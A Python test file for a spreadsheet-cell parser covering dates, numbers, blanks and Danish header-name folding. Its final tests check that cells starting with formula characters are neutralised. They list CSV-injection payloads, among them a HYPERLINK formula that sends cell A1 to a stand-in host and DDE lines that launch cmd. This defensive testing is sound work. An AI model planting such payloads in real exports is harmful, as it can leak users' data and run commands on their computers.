"""How a cell is read: dates, numbers, blanks and words, one at a time."""

from collections.abc import Callable
from datetime import date

import pytest
from pydantic_core import PydanticCustomError

from steering.contract.text import (
    clean,
    fold,
    harmless,
    parse_date,
    parse_number,
    parse_whole_number,
)


def reason(parse: Callable[[object], object], cell: str) -> str:
    """The type of the error that the cell raises."""
    with pytest.raises(PydanticCustomError) as refused:
        parse(cell)
    return refused.value.type


@pytest.mark.parametrize(
    ("cell", "day"),
    [
        ("2025-03-28", date(2025, 3, 28)),
        ("28-03-2025", date(2025, 3, 28)),
        ("28.03.2025", date(2025, 3, 28)),
        ("28/03/2025", date(2025, 3, 28)),
        ("03/04/2025", date(2025, 4, 3)),  # day first, always
        ("2024-02-29", date(2024, 2, 29)),
        ("29/02/2000", date(2000, 2, 29)),
        ("31.12.9999", date(9999, 12, 31)),
        ("0001-01-01", date(1, 1, 1)),
    ],
)
def test_a_date_is_read_in_four_forms_day_first(cell: str, day: date) -> None:
    assert parse_date(cell) == day


@pytest.mark.parametrize(
    "cell",
    [
        "29-02-2025",
        "29.02.1900",
        "31-02-2025",
        "31/04/2025",
        "2025-02-30",
        "2025-13-01",
        "00-01-2025",
        "00-00-0000",
        "0000-01-01",
        "03/28/2025",  # month first, as in the United States
        "28-03.2025",
        "28.03/2025",
        "2025-03.28",
        "2025/03/28",
        "2025.03.28",
        "20250328",
        "28-3-2025",
        "28-03-25",
        "28 03 2025",
        "2025-03-28T00:00:00",
        "2025-03-28 ",
        "2025-03-28\n",
        "٢٠٢٥-٠٣-٢٨",
        "２０２５-03-28",
        "2025-W13",
        "45744",
        "snarest",
        "-28-03-2025",
        "",
    ],
)
def test_anything_else_is_not_a_date(cell: str) -> None:
    assert reason(parse_date, cell) == "not_a_date"


@pytest.mark.parametrize(
    ("cell", "number"),
    [
        ("37", 37.0),
        ("37,5", 37.5),
        ("37.5", 37.5),
        ("0,001", 0.001),
        (",5", 0.5),
        (".5", 0.5),
        ("7,", 7.0),
        ("+7,5", 7.5),
        ("-7.5", -7.5),
        ("007", 7.0),
        ("0" * 5000 + "7", 7.0),
    ],
)
def test_a_number_has_a_decimal_comma_or_point(cell: str, number: float) -> None:
    assert parse_number(cell) == number


@pytest.mark.parametrize(
    "cell",
    [
        "1.234,5",
        "1,234.5",
        "1.234.567",
        "1 234",
        "1\u00a0234",
        "1'234",
        "1_000",
        "1e3",
        "1E-3",
        "nan",
        "NaN",
        "inf",
        "-Infinity",
        "0x10",
        "١٢",
        "½",
        "\u22125",
        "--5",
        "5-",
        "5 t",
        "kr. 5",
        "50%",
        ".",
        ",",
        "+",
        "7,5\n",
        "",
    ],
)
def test_anything_else_is_not_a_number(cell: str) -> None:
    assert reason(parse_number, cell) == "not_a_number"
    assert reason(parse_whole_number, cell) == "not_a_number"


@pytest.mark.parametrize(("cell", "number"), [("2", 2), ("2.0", 2), ("2,00", 2), ("-1", -1)])
def test_a_whole_number_may_be_written_with_empty_decimals(cell: str, number: int) -> None:
    parsed = parse_whole_number(cell)
    assert parsed == number
    assert isinstance(parsed, int)


@pytest.mark.parametrize("cell", ["2,5", "2.0001", "9" * 400])
def test_a_number_with_decimals_or_without_end_is_not_whole(cell: str) -> None:
    assert reason(parse_whole_number, cell) == "not_a_number"


def test_what_is_typed_already_is_left_alone() -> None:
    assert parse_date(date(2025, 3, 28)) == date(2025, 3, 28)
    assert parse_number(7.5) == 7.5
    assert parse_whole_number(3) == 3


@pytest.mark.parametrize("cell", ["", "   ", "\t", "\u00a0", "-", " - ", "NULL", " NULL\u00a0", "null"])
def test_empty_null_and_hyphen_are_missing(cell: str) -> None:
    assert clean(cell) is None


@pytest.mark.parametrize(
    ("cell", "cleaned"),
    [
        ("  Søren Ærø ", "Søren Ærø"),
        ("\u00a0B1\u00a0", "B1"),
        ("--", "--"),
        ("0", "0"),
        ("NULL og NIX", "NULL og NIX"),
        ("A  B", "A  B"),
    ],
)
def test_blanks_around_a_value_are_no_part_of_it(cell: str, cleaned: str) -> None:
    assert clean(cell) == cleaned


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("Ophørsårsag", "OPHOERSAARSAG"),
        ("målgruppe", "ma\u030algruppe"),  # å as a and a ring, as macOS writes file names
        ("MÅLGRUPPE", "MA\u030aLGRUPPE"),
        ("målgruppe", "m\u212blgruppe"),  # the ångström sign
        ("spørgsmål", "spoergsmaal"),
        ("cvr-nummer", "CVR Nummer"),
        ("timer_pr_uge", "Timer pr.uge".replace(".", "_")),
        ("e-mail", "E\u2011Mail"),  # a hyphen at which no line is broken
        ("fra_dato", " Fra\u00a0-\u2013 dato\t"),
        ("æ", "AE"),
    ],
)
def test_case_blanks_hyphens_underscores_and_spelling_do_not_count(one: str, other: str) -> None:
    assert fold(one) == fold(other)


def test_different_letters_stay_different() -> None:
    words = ["type", "typer", "tøj", "tåj", "taj", "toj", "team", "cpr", "cvr"]
    assert len({fold(word) for word in words}) == len(words)


FORMULAS = [
    '=HYPERLINK("http://x.example?"&A1)',
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "＝1+1",
    "-\n=1",
    "+45 12 34 56 78",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_a_spreadsheet_would_compute_becomes_text(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"
    assert harmless(harmless(cell)) == harmless(cell)


@pytest.mark.parametrize(
    "cell", ["-3", "+4,5", "-0.25", "3", "", "-", "=", "a=b", "ø@x.dk", "2025-03-28", "'=1"]
)
def test_numbers_and_plain_texts_stay_as_they_are(cell: str) -> None:
    assert harmless(cell) == cell
